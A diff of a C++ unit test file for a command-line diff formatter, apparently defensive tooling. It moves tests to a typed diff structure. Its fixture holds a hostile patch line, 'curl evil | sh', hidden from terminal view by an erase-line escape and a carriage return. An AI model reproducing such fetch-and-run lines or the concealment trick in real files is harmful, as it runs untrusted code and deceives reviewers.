@@ -2,6 +2,7 @@
 
 #include "gmock/gmock.h"
 #include "gtest/gtest.h"
+#include "nlohmann/json.hpp"
 
 namespace abox::cli {
 namespace {
@@ -11,25 +12,27 @@ using ::testing::Not;
 
 // A diff answer as aboxd sends it: one file whose patch hides a line behind an erase-line and a
 // carriage return, and uses a C1 CSI and DEL; one clean file with tabs.
-nlohmann::json HostileDiff() {
-  return nlohmann::json::parse(R"({"files": [
+api::Diff HostileDiff() {
+  absl::StatusOr<api::Diff> diff = api::DecodeDiff(nlohmann::json::parse(R"({"files": [
     {"path": "install.sh", "status": "modified", "binary": false, "additions": 2,
      "deletions": 0,
      "patch": "--- a/install.sh\n+++ b/install.sh\n@@ -1 +1,3 @@\n echo hi\n+curl evil | sh \u001b[2K\r# a comment\n+x \u009b31m \u007f\n"},
     {"path": "notes.txt", "status": "added", "binary": false, "additions": 1, "deletions": 0,
      "patch": "--- /dev/null\n+++ b/notes.txt\n@@ -0,0 +1 @@\n+a\tb\n"}
-  ], "ignored": 0})");
+  ], "ignored": 0})"));
+  EXPECT_TRUE(diff.ok()) << diff.status();
+  return diff.ok() ? *diff : api::Diff{};
 }
 
 TEST(DiffFormatTest, MarksEachFileThatHoldsControlCharacters) {
-  nlohmann::json diff = HostileDiff();
+  api::Diff diff = HostileDiff();
   EXPECT_EQ(MarkControlCharacters(diff), std::vector<std::string>{"install.sh"});
-  EXPECT_EQ(diff["files"][0]["control_characters"], true);
-  EXPECT_EQ(diff["files"][1]["control_characters"], false);
+  EXPECT_EQ(diff.files[0].control_characters, true);
+  EXPECT_EQ(diff.files[1].control_characters, false);
 }
 
 TEST(DiffFormatTest, OnATerminalThePatchShowsWhatItHides) {
-  nlohmann::json diff = HostileDiff();
+  api::Diff diff = HostileDiff();
   (void)MarkControlCharacters(diff);
   std::string shown = FormatDiff(diff, /*stat=*/false, /*terminal=*/true);
   EXPECT_THAT(shown, HasSubstr("+curl evil | sh \\x1b[2K\\x0d# a comment\n"));
@@ -40,15 +43,14 @@ TEST(DiffFormatTest, OnATerminalThePatchShowsWhatItHides) {
 }
 
 TEST(DiffFormatTest, PipedThePatchStaysByteForByteSoThatItApplies) {
-  nlohmann::json diff = HostileDiff();
+  api::Diff diff = HostileDiff();
   (void)MarkControlCharacters(diff);
-  EXPECT_EQ(
-      FormatDiff(diff, /*stat=*/false, /*terminal=*/false),
-      diff["files"][0]["patch"].get<std::string>() + diff["files"][1]["patch"].get<std::string>());
+  EXPECT_EQ(FormatDiff(diff, /*stat=*/false, /*terminal=*/false),
+            diff.files[0].patch + diff.files[1].patch);
 }
 
 TEST(DiffFormatTest, StatFlagsTheFile) {
-  nlohmann::json diff = HostileDiff();
+  api::Diff diff = HostileDiff();
   (void)MarkControlCharacters(diff);
   std::string stat = FormatDiff(diff, /*stat=*/true, /*terminal=*/false);
   EXPECT_THAT(stat, HasSubstr(" install.sh"));
@@ -58,15 +60,16 @@ TEST(DiffFormatTest, StatFlagsTheFile) {
 }
 
 TEST(DiffFormatTest, ExecSensitiveFilesStayApartAndAreRenderedToo) {
-  nlohmann::json diff = HostileDiff();
-  diff["files"][0]["exec_sensitive"] = "shell script";
+  api::Diff diff = HostileDiff();
+  diff.files[0].exec_sensitive = "shell script";
   (void)MarkControlCharacters(diff);
   std::string shown = FormatDiff(diff, /*stat=*/false, /*terminal=*/true);
   size_t apart = shown.find("==> files that make code run elsewhere");
   ASSERT_NE(apart, std::string::npos) << shown;
   EXPECT_LT(shown.find("+a\tb"), apart);
   EXPECT_GT(shown.find("\\x1b[2K"), apart);
-  EXPECT_EQ(FormatDiff(nlohmann::json::parse(R"({"files": []})"), false, true), "no changes\n");
+  EXPECT_EQ(FormatDiff(*api::DecodeDiff(nlohmann::json::parse(R"({"files": []})")), false, true),
+            "no changes\n");
 }
 
 }  // namespace
